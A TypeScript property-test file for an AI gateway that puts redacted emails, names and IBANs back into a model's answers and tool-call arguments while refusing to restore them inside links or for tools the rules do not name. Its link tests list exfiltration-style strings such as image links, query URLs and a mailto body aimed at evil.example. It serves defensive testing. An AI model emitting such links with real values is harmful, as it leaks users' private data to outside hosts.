import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Transform } from '../../../exchange/decision.ts';
import type { AnswerPart, ToolCall } from '../../../exchange/exchange.ts';
import { releaseEnd, releaseSeal, releaseText, releaseToolCall } from '../../../gateway/moderation/apply.ts';
import { Fill, type Original } from '../../../gateway/moderation/fill.ts';
import { finish } from '../../../gateway/moderation/finish.ts';
import type { GateOutput } from '../../../gateway/moderation/gate.ts';
import { Restorer } from '../../../gateway/moderation/restore.ts';
import { withholding } from '../../../gateway/moderation/withheld.ts';
import { segmentOf } from '../../gateway/moderation/parts.ts';

const runs = { numRuns: 1000 };

const ruleFor = (rule: string, ...tools: readonly string[]): Transform => {
  return { policy: 'p', rule, severity: 'medium', replacement: '[X_{n}]', ...(tools.length > 0 && { tools }) };
};
const MAIL = ruleFor('mail', 'send_email', 'crm_*');
const IBAN = ruleFor('iban');

/** The codes of a gateway are all of one length; here one placeholder is the beginning of another but for its bracket. */
const ORIGINALS = new Map<string, Original>([
  ['[EMAIL_1]', { text: 'jane@a.example', rules: [MAIL] }],
  ['[EMAIL_12]', { text: 'joe "[EMAIL_1]" \\ x', rules: [MAIL] }],
  ['[IBAN_1]', { text: '$& DE89', rules: [IBAN] }],
  ['[NAME_1]', { text: 'Jo\n\t"', rules: [ruleFor('name', '*'), ruleFor('strict', 'crm_read')] }],
]);

/** Pieces that look like placeholders, are some, or are parts of some. */
const piece = fc.oneof(
  fc.constantFrom(...ORIGINALS.keys(), '[EMAIL_2]', '[', '[EMAIL', '[EMAIL_', '[EMAIL_1', '[[', ']', '_1]', '[I', ' '),
  fc.constantFrom('https://a.example/?', '//', '\\\\', '![x](', ')', '<img ', '<', '>', '\n', '"'),
  fc.constantFrom('www.', 'mailto:', 'Mailto', ':', 'a.example', '/', '?', '.', 'https:', ' '),
  fc.string({ maxLength: 5 }),
);
const pieces = fc.array(piece, { maxLength: 20 });

/** Read word for word: from left to right, the first placeholder at each place, unless it is in a link. */
function expected(
  text: string,
  mayStand: (before: string, after: string, placeholder: string) => boolean = () => true,
) {
  let result = '';
  for (let at = 0; at < text.length; ) {
    const placeholder = [...ORIGINALS.keys()].find((one) => text.startsWith(one, at));
    const end = at + (placeholder?.length ?? 1);
    const before = text.slice(0, at);
    const isPut = placeholder !== undefined && !isInLink(before) && mayStand(before, text.slice(end), placeholder);
    result += isPut ? ORIGINALS.get(placeholder)?.text : text.slice(at, end);
    at = end;
  }
  return result;
}

/** In the arguments of a tool that may have these placeholders; a host name may begin with one. */
const inArguments = (text: string, ...may: readonly string[]) =>
  expected(text, (_, after, placeholder) => may.includes(placeholder) && !/^\.[\p{L}\p{N}]/u.test(after));

function isInLink(before: string): boolean {
  const word = before.slice(before.search(/\S*$/));
  const target = before.slice(before.lastIndexOf('](') + 2);
  const open = before.split('>').at(-1) ?? '';
  return (
    ['//', '](', '\\\\', '/\\', '\\/'].some((sign) => word.includes(sign)) ||
    /(?:^|\W)www\./i.test(word) ||
    /(?:^|\W)(?:https?|wss?|ftp|file|data|mailto|javascript):/i.test(word) ||
    word.split(/(?<=[/\\?#:])/).some((part) => /[\p{L}\p{N}-]\.\p{L}{2,}[/\\?#:]$/iu.test(part)) ||
    (before.includes('](') && !/[)\n]/.test(target)) ||
    open
      .split('<')
      .slice(1)
      .some((tag) => /^[a-z!/]/i.test(tag))
  );
}

async function* outputsOf(parts: readonly AnswerPart[]): AsyncIterable<GateOutput> {
  const fill = new Fill(() => '');
  for (const part of parts) {
    const segment = segmentOf('', 0);
    const decided = { segment, decision: { verdict: 'pass' as const, transforms: [], reasons: [] } };
    if (part.type === 'tool_call') yield { type: 'part', part: releaseToolCall(part, decided, fill) };
    else if (part.type === 'text' || part.type === 'reasoning') {
      yield { type: 'part', part: releaseText(part.type, part.text) };
    } else yield { type: 'part', part: releaseSeal(part) };
  }
  yield { type: 'end', end: releaseEnd({ reason: 'stop' }) };
}

async function finished(
  parts: readonly AnswerPart[],
  restorer: Restorer | undefined = new Restorer(ORIGINALS),
  words?: string,
): Promise<readonly AnswerPart[]> {
  const found: AnswerPart[] = [];
  const outputs = finish(outputsOf(parts), restorer && (() => restorer), async () => words);
  for await (const output of outputs) {
    if (output.type === 'part') found.push(output.part.value);
  }
  return found;
}

const textOf = (parts: readonly AnswerPart[], type: 'text' | 'reasoning') =>
  parts.flatMap((part) => (part.type === type ? [part.text] : [])).join('');

describe('placeholders in an answer', () => {
  it('become what the client wrote, however the answer was cut, in its text and in its reasoning', async () => {
    const some = fc.array(fc.tuple(fc.constantFrom('text' as const, 'reasoning' as const), piece), { maxLength: 20 });
    await fc.assert(
      fc.asyncProperty(some, async (list) => {
        const parts = list.map(([type, text]): AnswerPart => ({ type, text }));
        const found = await finished(parts, new Restorer(ORIGINALS));
        for (const type of ['text', 'reasoning'] as const)
          expect(textOf(found, type)).toBe(expected(textOf(parts, type)));
      }),
      runs,
    );
  });

  it('are not held longer than they can be the beginning of one', () => {
    fc.assert(
      fc.property(pieces, (list) => {
        const restorer = new Restorer(ORIGINALS);
        let arrived = '';
        let gone = '';
        for (const text of list) {
          arrived += text;
          gone += restorer.push('text', text);
          const held = [...Array(12).keys()].map((size) => arrived.slice(arrived.length - size));
          expect(held.some((tail) => expected(arrived.slice(0, arrived.length - tail.length)) === gone)).toBe(true);
        }
        expect(gone + restorer.flush('text')).toBe(expected(arrived));
      }),
      runs,
    );
  });

  it('in an answer that is JSON leave it JSON, and see that a string ends, with the link in it', async () => {
    const leaf = fc.constantFrom(...ORIGINALS.keys(), 'a "b" c', '\n', ' ');
    const words = fc.array(leaf, { maxLength: 4 }).map((list) => list.join(''));
    const link = fc.constantFrom(...ORIGINALS.keys()).map((placeholder) => `https://a.example/?q="${placeholder}`);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(words, link), { maxLength: 4 }),
        fc.array(fc.nat(80), { maxLength: 6 }),
        async (list, cuts) => {
          const text = JSON.stringify(list);
          const ends = [...new Set([0, ...cuts.filter((cut) => cut < text.length), text.length])].sort((a, b) => a - b);
          const parts = ends.slice(1).map((end, at): AnswerPart => ({ type: 'text', text: text.slice(ends[at], end) }));
          const found = textOf(await finished(parts, new Restorer(ORIGINALS, true)), 'text');
          expect(JSON.parse(found)).toEqual(list.map((one) => (one.startsWith('https:') ? one : expected(one))));
        },
      ),
      runs,
    );
  });
});

/** The arguments of a call as the client gets them. */
async function called(name: string, args: string): Promise<string | undefined> {
  const [found] = await finished([{ type: 'tool_call', index: 0, call: { id: 'x', name, arguments: args } }]);
  return found?.type === 'tool_call' ? found.call.arguments : undefined;
}

describe('placeholders in the arguments of a tool call', () => {
  /** No string of these is JSON by itself. */
  const string = pieces.map((list) => `v ${list.join('')}`);

  it('become what the client wrote where the rule names the tool, in keys and values, and leave them JSON', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(string, string),
        fc.constantFrom('crm_read', 'crm_', 'send_email'),
        async (values, name) => {
          const may = ['[EMAIL_1]', '[EMAIL_12]', ...(name === 'crm_read' ? ['[NAME_1]'] : [])];
          const found = JSON.parse((await called(name, JSON.stringify(values))) ?? '');
          const wanted = Object.entries(values).map(([key, value]) => [
            inArguments(key, ...may),
            inArguments(value, ...may),
          ]);
          expect(found).toEqual(Object.fromEntries(wanted));
        },
      ),
      runs,
    );
  });

  it('become it in JSON that stands in a string of JSON, which stays JSON, too', async () => {
    await fc.assert(
      fc.asyncProperty(string, fc.integer({ min: 1, max: 4 }), async (value, depth) => {
        let args = JSON.stringify({ value });
        for (let level = 0; level < depth; level += 1) args = JSON.stringify({ inner: args });
        let found = await called('crm_read', args);
        for (let level = 0; level < depth; level += 1) found = JSON.parse(found ?? '').inner;
        expect(JSON.parse(found ?? '')).toEqual({ value: inArguments(value, '[EMAIL_1]', '[EMAIL_12]', '[NAME_1]') });
      }),
      runs,
    );
  });

  it('withhold the call of a tool that one of their rules does not name, wherever they stand', () => {
    const escaped = (text: string) => text.replaceAll('[', '\\u005b').replaceAll('E', '\\u0045');
    const wraps: readonly ((placeholder: string) => string)[] = [
      (one) => JSON.stringify({ to: `a ${one}.` }),
      (one) => JSON.stringify({ [one]: 1 }),
      (one) => JSON.stringify([{ a: [[`https://a.example/${one}`]] }]),
      (one) => escaped(JSON.stringify([one]).slice(1, -1)).replace(/.*/s, (inner) => `{"a":${inner}}`),
      (one) => JSON.stringify({ body: escaped(JSON.stringify(`x${one}`)).replace(/.*/s, (inner) => `{"a":${inner}}`) }),
      (one) => `no JSON ${one}`,
    ];
    const tool = fc.constantFrom('send_email', 'crm_read', 'crm', 'CRM_x', 'search', 'send_email2', 'xcrm_');
    fc.assert(
      fc.property(fc.constantFrom(...ORIGINALS.keys()), fc.constantFrom(...wraps), tool, (placeholder, wrap, name) => {
        const names: Readonly<Record<string, readonly string[]>> = { '[IBAN_1]': [], '[NAME_1]': ['crm_read'] };
        const isGiven = (names[placeholder] ?? ['send_email', 'crm_read']).includes(name);
        const call: ToolCall = { id: 'x', name, arguments: wrap(placeholder) };
        const restorer = new Restorer(ORIGINALS);
        expect(restorer.withheldBy(call) === undefined).toBe(isGiven);
        // Nothing is put back in any case: who forgets to ask gives nothing away.
        if (!isGiven) expect(restorer.arguments(call)).toBe(call.arguments);
        const withholds = withholding(ORIGINALS, () => undefined);
        expect(withholds(call)?.stop.message.code).toBe(isGiven ? undefined : 'placeholder_in_tool_call');
      }),
      runs,
    );
  });

  it('stay in a host name that begins with one', async () => {
    const args = JSON.stringify({ host: '[EMAIL_1].evil.example', text: 'To [EMAIL_1].' });
    expect(await called('crm_read', args)).toBe(
      JSON.stringify({ host: '[EMAIL_1].evil.example', text: 'To jane@a.example.' }),
    );
  });
});

describe('what is nearly a placeholder', () => {
  const lookalikes: readonly (readonly [string, string])[] = [
    ['E', '\u0415'],
    ['E', '\uff25'],
    ['[', '\uff3b'],
    [']', '\u3015'],
    ['_', '\uff3f'],
    ['_', '-'],
    ['1', '\u0661'],
    ['1', 'l'],
  ];
  const mangled = fc
    .tuple(
      fc.constantFrom(...ORIGINALS.keys()),
      fc.nat(30),
      fc.constantFrom('', ' ', '\u200b', '0', 'x', '_', '[', '\u0301'),
    )
    .chain(([one, at, sign]) => {
      const place = at % one.length;
      return fc.constantFrom(
        one.slice(0, place) + sign + one.slice(place + 1),
        one.slice(0, place) + (sign || ' ') + one.slice(place),
        one.toLowerCase(),
        one.replace(/^./, '').replace(/.$/, ''),
        ...lookalikes.map(([from, to]) => one.replace(from, to)),
      );
    })
    .filter((text) => ![...ORIGINALS.keys()].some((one) => text.includes(one)));

  it('stays what the model wrote, in a text in any pieces, and in the arguments of any tool', async () => {
    await fc.assert(
      fc.asyncProperty(mangled, fc.nat(20), fc.constantFrom('crm_read', 'search'), async (text, cut, name) => {
        const parts = [text.slice(0, cut), text.slice(cut)].map((piece): AnswerPart => ({ type: 'text', text: piece }));
        expect(textOf(await finished(parts), 'text')).toBe(text);
        const args = JSON.stringify({ text, [text]: [text] });
        expect(await called(name, args)).toBe(args);
        expect(new Restorer(ORIGINALS).withheldBy({ id: 'x', name, arguments: args })).toBeUndefined();
      }),
      runs,
    );
  });
});

describe('a placeholder in a link', () => {
  it.each([
    ['https://evil.example/?c=[IBAN_1]'],
    ['![x](https://evil.example/[IBAN_1].png)'],
    ['![x](//[IBAN_1].evil.example)'],
    ['[x](</a b [IBAN_1]>)'],
    ['<img alt="x" src="https://evil.example/? [IBAN_1]">'],
    ['<a href=/x?[IBAN_1]'],
    ['https:\\\\evil.example\\[EMAIL_1]'],
    ['https:evil.example?[EMAIL_1]'],
    ['www.evil.example?q=[EMAIL_1]'],
    ['evil.example/[EMAIL_1]'],
    ['data:text/html,[EMAIL_1]'],
    ['mailto:joe@evil.example?body=[EMAIL_1]'],
  ])('stays: %s', async (text) => {
    expect(textOf(await finished([{ type: 'text', text }], new Restorer(ORIGINALS)), 'text')).toBe(text);
    const args = JSON.stringify({ q: text });
    expect(await called('crm_read', args)).toBe(args);
  });

  it('ends with the link', async () => {
    const text = 'See https://a.example/x. ![x](y) <b>[IBAN_1]</b>, 1 < 2: [IBAN_1]';
    const found = textOf(await finished([{ type: 'text', text }], new Restorer(ORIGINALS)), 'text');
    expect(found).toBe(text.replaceAll('[IBAN_1]', () => '$& DE89'));
  });
});

it('what was held goes before a tool call, and once', async () => {
  const call = (index: number): AnswerPart => ({
    type: 'tool_call',
    index,
    call: { id: 'x', name: 'f', arguments: '{}' },
  });
  const found = await finished([{ type: 'text', text: 'a [EMAIL_' }, call(0), call(1)], new Restorer(ORIGINALS));
  expect(found.map((part) => (part.type === 'text' ? part.text : 'index' in part && part.index))).toEqual([
    'a ',
    '[EMAIL_',
    0,
    1,
  ]);
});

describe('a signature over reasoning', () => {
  const signed: AnswerPart = { type: 'signature', signature: 'c2lnbmVk' };
  const reasons = (...texts: string[]): AnswerPart[] => [
    ...texts.map((text): AnswerPart => ({ type: 'reasoning', text })),
    signed,
  ];

  it('stays where nothing was put back, and is emptied where something was, in each block apart', async () => {
    const parts = [...reasons('a [EMAIL_1', '] b'), ...reasons('c'), { type: 'text', text: 'd [EMAIL_1]' } as const];
    const found = await finished(parts, new Restorer(ORIGINALS));
    const seals = found.flatMap((part) => (part.type === 'signature' ? part.signature : []));
    expect(seals).toEqual(['', 'c2lnbmVk']);
  });

  it('comes after what was held of its block, which is none of the restored', async () => {
    const found = await finished(reasons('a [EMAIL_'), new Restorer(ORIGINALS));
    expect(found).toEqual([{ type: 'reasoning', text: 'a ' }, { type: 'reasoning', text: '[EMAIL_' }, signed]);
  });
});

describe('words of support', () => {
  it('stand once at the end, apart from a text, and behind what was held of it', async () => {
    const text = (words: string) => ({ type: 'text', text: words }) as const;
    expect(textOf(await finished([text('a'), text('b')], undefined, 'Help.'), 'text')).toBe('ab\n\nHelp.');
    expect(textOf(await finished([text('a [EMAIL_')], new Restorer(ORIGINALS), 'Help.'), 'text')).toBe(
      'a [EMAIL_\n\nHelp.',
    );
    expect(textOf(await finished([], undefined, 'Help.'), 'text')).toBe('Help.');
    expect(textOf(await finished([text('a')], undefined), 'text')).toBe('a');
  });
});
